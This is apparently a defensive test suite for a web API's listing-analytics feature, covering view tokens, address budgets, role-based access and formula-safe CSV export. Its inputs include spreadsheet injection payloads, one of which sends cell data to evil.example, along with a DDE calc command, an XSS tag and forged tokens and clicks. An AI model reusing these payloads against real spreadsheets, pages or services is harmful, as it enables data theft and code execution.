import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { FastifyInstance } from 'fastify';
import { contract } from '@valley/shared/api/contract';
import { INSIGHT_KINDS, type BoardInsights, type MemberInsights } from '@valley/shared/schemas/insights';
import { addDays, dayKeyOf } from '@valley/shared/time';
import { buildApp } from './app';
import { DEV_INSIGHTS_SECRET } from './config';
import { issueAccessToken } from './auth/tokens';
import type { Db } from './db/db';
import { ADDRESS_BUDGET, budgetAddress } from './insights/collect';
import { csvCell } from './insights/report';
import { issueViewToken, VIEW_TOKEN_TTL_MS } from './insights/view-token';
import { DEFAULT_MEDIA_DIR } from './media/store';
import { INSIGHT_PATHS } from './routes/insights';
import { seedDatabase } from './seed/seed';
import { testPglite } from './test-support/templates';

// Partner insights (decisions 046, 074): anonymous counts in, each owner's own numbers out, the Board's valley; nothing about a visitor
// kept; a count needs a view token the API issued for a page view on the site's own origin, and one address has a budget.

const BROWSER = 'Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1';
const SITE = 'http://localhost:3000';
/** A crawler, a prefetch, and browsers asking not to be tracked: none gets a view token, none is counted. */
const NOT_COUNTED: Record<string, string>[] = [
  { 'user-agent': 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' },
  { 'user-agent': '' },
  { 'sec-purpose': 'prefetch;prerender' },
  { 'sec-gpc': '1' },
  { dnt: '1' },
];
let now = new Date('2026-11-24T15:00:00Z');
let db: Db;
let app: FastifyInstance;
const tokens: Record<'owner' | 'other' | 'board', string> = { owner: '', other: '', board: '' };
let destination = { id: 0, slug: '' };
/** The ads the seed shows: link → the title of its ad block. */
let ads = new Map<string, string>();
let adLink = '';

before(async () => {
  db = await testPglite('migrated');
  await seedDatabase(db, { mediaDir: DEFAULT_MEDIA_DIR, baseDate: now });
  app = await buildApp({ db, config: { corsOrigins: [SITE], publicApiUrl: 'http://api.test' }, clock: () => now });
  const row = (
    await db.query<{ id: number; slug: string; owner_id: number }>(
      'select id, slug, owner_id from destinations where approved and owner_id is not null order by id limit 1',
    )
  ).rows[0];
  assert.ok(row);
  destination = { id: Number(row.id), slug: row.slug };
  const other = (await db.query<{ id: number }>(`select id from users where role <> 'Board' and id <> $1 order by id limit 1`, [row.owner_id])).rows[0];
  const board = (await db.query<{ id: number }>(`select id from users where role = 'Board' order by id limit 1`)).rows[0];
  assert.ok(other && board);
  tokens.owner = (await issueAccessToken(db, Number(row.owner_id), now)).token;
  tokens.other = (await issueAccessToken(db, Number(other.id), now)).token;
  tokens.board = (await issueAccessToken(db, Number(board.id), now)).token;
  // The seed counts each ad its blocks show, under the block's title.
  const seeded = await db.query<{ link: string; title: string }>('select distinct link, title from insight_ad_counts order by link');
  ads = new Map(seeded.rows.map((ad) => [ad.link, ad.title]));
  adLink = seeded.rows[0]?.link ?? '';
  assert.ok(adLink, 'the seed shows ads');
});
after(async () => {
  await app.close();
  await db.close();
});

interface Sending {
  token?: string;
  headers?: Record<string, string>;
  /** The client address (127.0.0.1 unless named): each test that spends a budget has its own. */
  from?: string;
  asText?: boolean;
}

const visitor = (headers: Record<string, string> = {}) => ({ 'user-agent': BROWSER, origin: SITE, ...headers });

/** A view token as the site's tracker asks for one; undefined when none is issued. */
async function viewToken(headers: Record<string, string> = {}, from?: string): Promise<string | undefined> {
  const response = await app.inject({ method: 'POST', url: '/api/insights/token', headers: visitor(headers), ...(from ? { remoteAddress: from } : {}) });
  // Before decision 074 there was no such call: beacons then went without a token.
  if (response.statusCode === 404) return undefined;
  assert.equal(response.statusCode, 200, response.body);
  return contract.insightsToken.response.parse(response.json()).token ?? undefined;
}

const send = (events: unknown[], { token, headers = {}, from, asText = false }: Sending = {}) =>
  app.inject({
    method: 'POST',
    url: '/api/insights/events',
    headers: { ...visitor(headers), 'content-type': asText ? 'text/plain;charset=UTF-8' : 'application/json' },
    ...(from ? { remoteAddress: from } : {}),
    payload: JSON.stringify({ ...(token === undefined ? {} : { token }), events }),
  });
const counted = async (events: unknown[], sending: Sending = {}) => {
  const response = await send(events, sending);
  assert.equal(response.statusCode, 200, response.body);
  return (response.json() as { counted: number }).counted;
};
/** A new page view: the tracker's token, then its beacon (headers of both, from one address). */
const pageView = async (events: unknown[], sending: Omit<Sending, 'token'> = {}) =>
  counted(events, { ...sending, token: await viewToken(sending.headers, sending.from) });

const as = (who: keyof typeof tokens) => ({ authorization: `Bearer ${tokens[who]}` });
const mine = async (who: keyof typeof tokens = 'owner', days = 30): Promise<MemberInsights> => {
  const response = await app.inject({ method: 'GET', url: `/api/insights/user?days=${days}`, headers: as(who) });
  assert.equal(response.statusCode, 200, response.body);
  return contract.myInsights.response.parse(response.json());
};
const valley = async (days = 7): Promise<BoardInsights> => {
  const response = await app.inject({ method: 'GET', url: `/api/insights/board?days=${days}`, headers: as('board') });
  assert.equal(response.statusCode, 200, response.body);
  return contract.boardInsights.response.parse(response.json());
};
const todayOf = (report: MemberInsights, id = destination.id) => {
  const listing = report.listings.find((entry) => entry.listing === 'destination' && entry.id === id);
  assert.ok(listing, 'the owner sees the listing');
  return listing.series.at(-1)?.counts;
};
const view = { kind: 'view', listing: 'destination', id: 0 };
/** An ad click as a forger sends it: any link, any title. */
const forgedAd = (link: string, title = 'Cheap pills at evil.example') => ({ kind: 'ad_click', listing: 'ad', link, title });
/** Rows the insights' bookkeeping holds: throttle windows and spent view tokens. */
const bookkeepingRows = async () => {
  const throttle = await db.query<{ n: number }>(`select count(*)::int as n from throttle_hits where key like 'insights:%'`);
  const spent = (await db.query<{ t: string | null }>(`select to_regclass('insight_view_tokens')::text as t`)).rows[0]?.t
    ? await db.query<{ n: number }>('select count(*)::int as n from insight_view_tokens')
    : { rows: [{ n: 0 }] };
  return Number(throttle.rows[0]?.n ?? 0) + Number(spent.rows[0]?.n ?? 0);
};
/** `count` different events (kinds across approved destinations), the same for the same `offset`. */
async function manyEvents(count: number, offset = 0) {
  const { rows } = await db.query<{ id: number }>('select id from destinations where approved order by id');
  const kinds = ['view', 'drawer', 'click_website', 'click_phone', 'click_social', 'click_directions', 'favorite', 'share'];
  return Array.from({ length: count }, (_, index) => {
    const n = offset + index;
    return { kind: kinds[n % kinds.length], listing: 'destination', id: Number(rows[Math.floor(n / kinds.length) % rows.length]?.id) };
  });
}

describe('collecting', () => {
  it("counts a page view's view, drawer and website click once each with its view token; another page view counts again", async () => {
    view.id = destination.id;
    const earlier = todayOf(await mine());
    const token = await viewToken();
    assert.equal(
      await counted(
        [view, { kind: 'drawer', listing: 'destination', id: destination.id }, { kind: 'click_website', listing: 'destination', id: destination.id }],
        { token },
      ),
      3,
    );
    assert.equal(await counted([view], { token }), 0, 'a token counts its view once');
    assert.equal(await pageView([view]), 1, 'the next page view counts');
    const later = todayOf(await mine());
    assert.equal(later?.view, (earlier?.view ?? 0) + 2);
    assert.equal(later?.drawer, (earlier?.drawer ?? 0) + 1);
    assert.equal(later?.click_website, (earlier?.click_website ?? 0) + 1);
  });

  it('takes a beacon sent as text/plain, and answers bad input with a 400 that names the field', async () => {
    const beacon = await send([view], { token: await viewToken(), asText: true });
    assert.equal(beacon.statusCode, 200, beacon.body);
    assert.equal(beacon.json().counted, 1);
    const bad = await send([{ kind: 'view', listing: 'destination', id: 'x' }], { token: await viewToken() });
    assert.equal(bad.statusCode, 400);
    assert.match(bad.json().message, /events\.0/);
    const garbage = await app.inject({ method: 'POST', url: '/api/insights/events', headers: { ...visitor(), 'content-type': 'text/plain' }, payload: '{' });
    assert.equal(garbage.statusCode, 400);
    const tooMany = await send(
      Array.from({ length: 31 }, () => view),
      { token: await viewToken() },
    );
    assert.equal(tooMany.statusCode, 400);
  });

  it("issues a view token only to a person's browser on the site's own pages, for half an hour, never cached", async () => {
    const response = await app.inject({ method: 'POST', url: '/api/insights/token', headers: visitor() });
    assert.equal(response.statusCode, 200, response.body);
    assert.equal(response.headers['cache-control'], 'no-store');
    const answer = contract.insightsToken.response.parse(response.json());
    assert.match(answer.token ?? '', /^[\w.-]{40,100}$/);
    assert.equal(answer.expiresIn, VIEW_TOKEN_TTL_MS / 1000);
    const refused = [...NOT_COUNTED, { origin: 'https://elsewhere.example' }, { origin: '' }];
    for (const headers of refused) assert.equal(await viewToken(headers), undefined, JSON.stringify(headers));
  });

  it('counts nothing from crawlers, prefetches, or browsers asking not to be tracked', async () => {
    for (const headers of NOT_COUNTED) assert.equal(await counted([view], { token: await viewToken(), headers }), 0, JSON.stringify(headers));
    assert.equal(await pageView([view]), 1, 'the same view from a person counts');
  });

  it('counts nothing without a valid view token: none, forged, altered, signed with another key, or expired (finding 10)', async () => {
    const earlier = todayOf(await mine());
    const missing = await send([view]);
    assert.equal(missing.statusCode, 400, 'a beacon without a token is bad input');
    assert.match(missing.json().message, /token/);
    const good = issueViewToken(DEV_INSIGHTS_SECRET, now).token;
    const [id = '', expires = '', signature = ''] = good.split('.');
    const forged = [
      'A'.repeat(16) + '.zzzzzz.' + 'A'.repeat(24),
      `${id}.${(Number.parseInt(expires, 36) + 60).toString(36)}.${signature}`,
      issueViewToken('another-key-another-key-another-key', now).token,
      'not a token',
    ];
    for (const token of forged) assert.equal(await counted([view], { token }), 0, token);
    const expiring = await viewToken();
    now = new Date(now.getTime() + VIEW_TOKEN_TTL_MS);
    assert.equal(await counted([view], { token: expiring }), 0, 'an expired token');
    assert.deepEqual(todayOf(await mine()), earlier);
    assert.equal(await counted([view], { token: issueViewToken(DEV_INSIGHTS_SECRET, now).token }), 1, 'a token the API signed counts');
  });

  it("counts a beacon only from the site's own origin: another site's page cannot count for its visitors (finding 10)", async () => {
    const earlier = todayOf(await mine())?.view ?? 0;
    const from = '198.51.100.11';
    for (const origin of ['https://elsewhere.example', 'null', '', 'http://localhost:3000.elsewhere.example'])
      assert.equal(await counted([view], { token: await viewToken({}, from), headers: { origin, 'user-agent': `${BROWSER} ${origin}` }, from }), 0, origin);
    assert.equal(todayOf(await mine())?.view, earlier);
    assert.equal(await counted([view], { token: await viewToken({}, from), from }), 1);
  });

  it('rotating user agents from one address counts no more than the address budget, and writes a bounded number of rows (finding 10)', async () => {
    const from = '198.51.100.7';
    const rowsBefore = await bookkeepingRows();
    let total = 0;
    let lastToken: string | undefined;
    const beacons = 40;
    for (let n = 0; n < beacons; n += 1) {
      const headers = { 'user-agent': `${BROWSER} flood/${n}` };
      lastToken = (await viewToken(headers, from)) ?? lastToken;
      total += await counted(await manyEvents(30, n * 30), { token: lastToken, headers, from });
    }
    const [burst] = ADDRESS_BUDGET.events;
    assert.equal(total, burst.limit, `${beacons * 30} different events sent, the budget counted`);
    const rowsAfter = await bookkeepingRows();
    // At most a row per event counted and one per token, whatever was sent.
    assert.ok(rowsAfter - rowsBefore <= total + beacons, `rows grew by ${rowsAfter - rowsBefore}`);
    // Past the budget, more requests write nothing new.
    for (let n = beacons; n < beacons + 20; n += 1) {
      const headers = { 'user-agent': `${BROWSER} flood/${n}` };
      assert.equal(await counted(await manyEvents(30, n * 30), { token: (await viewToken(headers, from)) ?? lastToken, headers, from }), 0);
    }
    assert.ok((await bookkeepingRows()) - rowsAfter <= 1, 'no rows per refused request');
    assert.equal(await pageView([view], { from: '198.51.100.8' }), 1, 'another address still counts');
  });

  it('one address adds at most its share to one listing an hour, however many page views it makes (finding 10)', async () => {
    const from = '198.51.100.9';
    const earlier = todayOf(await mine())?.favorite ?? 0;
    let total = 0;
    for (let n = 0; n < ADDRESS_BUDGET.subject.limit + 10; n += 1)
      total += await pageView([{ kind: 'favorite', listing: 'destination', id: destination.id }], { headers: { 'user-agent': `${BROWSER} fav/${n}` }, from });
    assert.equal(total, ADDRESS_BUDGET.subject.limit);
    assert.equal(todayOf(await mine())?.favorite, earlier + ADDRESS_BUDGET.subject.limit);
  });

  it('issues an address a limited number of view tokens, whatever user agent it sends', async () => {
    const from = '198.51.100.10';
    let issued = 0;
    for (let n = 0; n < ADDRESS_BUDGET.tokens.limit + 5; n += 1) if (await viewToken({ 'user-agent': `${BROWSER} t/${n}` }, from)) issued += 1;
    assert.equal(issued, ADDRESS_BUDGET.tokens.limit);
  });

  it('budgets an IPv6 client by its /64, and an IPv4-mapped address as IPv4', () => {
    assert.equal(budgetAddress('2001:db8:1:2:aaaa:bbbb:cccc:1'), budgetAddress('2001:db8:1:2::ffff'));
    assert.equal(budgetAddress('2001:db8:1:2::1'), '2001:db8:1:2::/64');
    assert.notEqual(budgetAddress('2001:db8:1:2::1'), budgetAddress('2001:db8:1:3::1'));
    assert.equal(budgetAddress('::1'), '0:0:0:0::/64');
    assert.equal(budgetAddress('::ffff:192.0.2.1'), '192.0.2.1');
    assert.equal(budgetAddress('192.0.2.1'), '192.0.2.1');
  });

  it('keeps no address or browser string of a visitor', async () => {
    const { rows } = await db.query<{ key: string }>(`select key from throttle_hits where key like 'insights:%'`);
    assert.ok(rows.length > 0);
    for (const { key } of rows) assert.doesNotMatch(key, /127\.0\.0\.1|198\.51\.100|Mozilla|iPhone/);
  });

  it("counts only approved listings, and an ad only by a link an ad block shows exactly, under that block's title (finding 11)", async () => {
    const hidden = (await db.query<{ id: number }>('select id from destinations where not approved order by id limit 1')).rows[0];
    assert.ok(hidden);
    assert.equal(
      await pageView([
        { kind: 'view', listing: 'destination', id: hidden.id },
        { kind: 'view', listing: 'event', id: 999_999 },
      ]),
      0,
    );
    // Text some page holds is no ad: a part of an ad's link, a link with more after it, a word of a page.
    for (const link of ['https://spam.example/', adLink.slice(0, -1), '/d/', `${adLink}x`, 'Happy Valley'])
      assert.equal(await pageView([forgedAd(link)]), 0, link);
    assert.equal(await pageView([forgedAd(adLink)]), 1);
    const board = await valley();
    const shown = board.ads.find((entry) => entry.link === adLink);
    assert.equal(shown?.title, ads.get(adLink), "the ad block's title, not the one sent");
    for (const entry of board.ads) assert.equal(entry.title, ads.get(entry.link), `${entry.link} is an ad the site shows, with its title`);
  });

  it('keeps only search terms that read as words, lowercased; the Board sees nothing else (finding 11)', async () => {
    assert.equal(await pageView([{ kind: 'search_miss', term: '  Hot Air   BALLOONS ' }]), 1);
    const hostile = [
      '=HYPERLINK("https://evil.example","Claim your prize")',
      '<img src=x onerror=alert(1)>',
      'visit https://evil.example now',
      'cheap.pills',
      '@SUM(1+1)',
      'x',
      'one two three four five six seven',
    ];
    for (const term of hostile) assert.equal(await pageView([{ kind: 'search_miss', term }]), 0, term);
    // A term kept before these rules is not shown either.
    await db.query('insert into insight_search_misses (day, term, count) values ($1, $2, 9999)', [dayKeyOf(now), "=cmd|' /c calc'!a0"]);
    const board = await valley();
    assert.ok(board.searchMisses.some((miss) => miss.term === 'hot air balloons'));
    for (const miss of board.searchMisses) assert.match(miss.term, /^[\p{L}\p{N}][\p{L}\p{M}\p{N} '’&-]*$/u, miss.term);
  });
});

describe('reading', () => {
  it("gives a member only their own listings; another member's listing is a 404, the Board sees any", async () => {
    const others = await mine('other');
    assert.ok(!others.listings.some((listing) => listing.listing === 'destination' && listing.id === destination.id));
    const url = INSIGHT_PATHS.listing.replace(':listing', 'destination').replace(':id', String(destination.id));
    assert.equal((await app.inject({ method: 'GET', url, headers: as('other') })).statusCode, 404);
    assert.equal((await app.inject({ method: 'GET', url })).statusCode, 401);
    const owner = await app.inject({ method: 'GET', url, headers: as('owner') });
    assert.equal(owner.statusCode, 200);
    assert.equal((await app.inject({ method: 'GET', url, headers: as('board') })).statusCode, 200);
    assert.equal((await app.inject({ method: 'GET', url: '/api/insights/board', headers: as('owner') })).statusCode, 403);
    assert.equal((await app.inject({ method: 'GET', url: '/api/insights/user' })).statusCode, 401);
  });

  it('lets the Board pick any partner or listing and see exactly what its owner sees (issue 46)', async () => {
    const partners = contract.boardPartners.response.parse(
      (await app.inject({ method: 'GET', url: '/api/insights/board/partners', headers: as('board') })).json(),
    );
    const ownerId = Number((await db.query<{ owner_id: number }>('select owner_id from destinations where id = $1', [destination.id])).rows[0]?.owner_id);
    const partner = partners.members.find((member) => member.id === ownerId);
    assert.ok(partner && partner.listings > 0, 'the owner is a partner the Board can pick');
    assert.ok(partners.listings.some((listing) => listing.listing === 'destination' && listing.id === destination.id && listing.owner === partner.name));

    const asOwner = await mine('owner', 30);
    const byMember = await app.inject({ method: 'GET', url: `/api/insights/board/partner?days=30&member=${ownerId}`, headers: as('board') });
    assert.deepEqual(contract.boardPartnerInsights.response.parse(byMember.json()), asOwner);
    const byListing = contract.boardPartnerInsights.response.parse(
      (await app.inject({ method: 'GET', url: `/api/insights/board/partner?days=30&destination=${destination.id}`, headers: as('board') })).json(),
    );
    assert.deepEqual(
      byListing.listings,
      asOwner.listings.filter((listing) => listing.listing === 'destination' && listing.id === destination.id),
    );

    assert.equal((await app.inject({ method: 'GET', url: `/api/insights/board/partner?member=${ownerId}`, headers: as('owner') })).statusCode, 403);
    assert.equal((await app.inject({ method: 'GET', url: '/api/insights/board/partners', headers: as('other') })).statusCode, 403);
    assert.equal((await app.inject({ method: 'GET', url: `/api/insights/board/partner?member=${ownerId}&event=1`, headers: as('board') })).statusCode, 400);
    assert.equal((await app.inject({ method: 'GET', url: '/api/insights/board/partner?destination=999999', headers: as('board') })).statusCode, 404);
  });

  it('answers a period as days up to today, its totals the sum of its series, with the period before', async () => {
    for (const days of [7, 30, 90]) {
      const report = await mine('owner', days);
      assert.equal(report.to, dayKeyOf(now));
      assert.equal(report.from, addDays(report.to, 1 - days));
      for (const listing of report.listings) {
        assert.equal(listing.series.length, days);
        for (const kind of INSIGHT_KINDS)
          assert.equal(
            listing.totals[kind],
            listing.series.reduce((sum, point) => sum + point.counts[kind], 0),
          );
      }
      // 90 days are seeded: the 7- and 30-day periods have a period before them.
      if (days < 90)
        assert.ok(
          report.listings.some((listing) => listing.previous.view > 0),
          'the seeded history fills the period before',
        );
    }
    const bad = await app.inject({ method: 'GET', url: '/api/insights/user?days=5', headers: as('owner') });
    assert.equal(bad.statusCode, 400);
    assert.match(bad.json().message, /days must be 7, 30 or 90/);
  });

  it('shows the Board the valley: totals, top listings by views, ads with their click-through rate', async () => {
    const board = contract.boardInsights.response.parse((await app.inject({ method: 'GET', url: '/api/insights/board?days=30', headers: as('board') })).json());
    assert.equal(
      board.totals.view,
      board.series.reduce((sum, point) => sum + point.counts.view, 0),
    );
    assert.ok(board.top.length === 10);
    const views = board.top.map((listing) => listing.totals.view);
    assert.deepEqual(
      views,
      views.toSorted((a, b) => b - a),
    );
    const ad = board.ads.find((entry) => entry.link === adLink);
    assert.ok(ad && ad.views > 0 && ad.clicks > 0);
    assert.ok(Math.abs(ad.ctr - ad.clicks / ad.views) < 1e-9);
  });

  it('exports the same numbers as CSV, which reads back to the report, with no cell a spreadsheet runs as a formula (finding 11)', async () => {
    const title = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
    const { rows } = await db.query<{ name: string }>('select name from destinations where id = $1', [destination.id]);
    await db.query('update destinations set name = $1 where id = $2', [title, destination.id]);
    try {
      const report = await mine('owner', 7);
      const response = await app.inject({ method: 'GET', url: `${INSIGHT_PATHS.csv}?days=7`, headers: as('owner') });
      assert.equal(response.statusCode, 200);
      assert.match(String(response.headers['content-type']), /^text\/csv/);
      assert.match(String(response.headers['content-disposition']), /attachment; filename="valley-insights-.+\.csv"/);
      const [header, ...lines] = parseCsv(response.body);
      assert.deepEqual(header, ['listing', 'id', 'title', 'day', ...INSIGHT_KINDS]);
      const fromCsv = lines.map((cells) => ({ key: `${cells[0]}:${cells[1]}:${cells[3]}`, title: cells[2], counts: cells.slice(4).map(Number) }));
      const fromJson = report.listings.flatMap((listing) =>
        listing.series.map((point) => ({
          key: `${listing.listing}:${listing.id}:${point.day}`,
          title: /^[=+\-@]/.test(listing.title) ? `'${listing.title}` : listing.title,
          counts: INSIGHT_KINDS.map((kind) => point.counts[kind]),
        })),
      );
      assert.deepEqual(fromCsv, fromJson);
      assert.ok(
        fromCsv.some((line) => line.title === `'${title}`),
        'the title is kept, as text',
      );
      for (const cells of lines) for (const cell of cells) assert.doesNotMatch(cell, /^\s*[=+\-@]|^[\t\r\n]/, cell);
    } finally {
      await db.query('update destinations set name = $1 where id = $2', [rows[0]?.name, destination.id]);
    }
    assert.equal((await app.inject({ method: 'GET', url: INSIGHT_PATHS.csv })).statusCode, 401);
  });

  it('neutralises every formula-leading CSV cell: =, +, -, @, tab, carriage return and line feed, also after spaces', () => {
    for (const text of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '  =1'])
      assert.ok(parseCsv(`${csvCell(text)}\r\n`)[0]?.[0]?.startsWith("'"), JSON.stringify(text));
    assert.equal(csvCell('Penns Cave'), 'Penns Cave');
    assert.equal(csvCell(12), '12');
    assert.equal(csvCell('Say "hi", then go'), '"Say ""hi"", then go"');
    assert.equal(csvCell('=1,2'), `"'=1,2"`);
  });
});

/** RFC 4180: quoted cells may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const character = text[index];
    if (quoted) {
      if (character === '"' && text[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (character === '"') quoted = false;
      else cell += character;
    } else if (character === '"') quoted = true;
    else if (character === ',') {
      row.push(cell);
      cell = '';
    } else if (character === '\r' && text[index + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      index += 1;
    } else cell += character;
  }
  return rows;
}
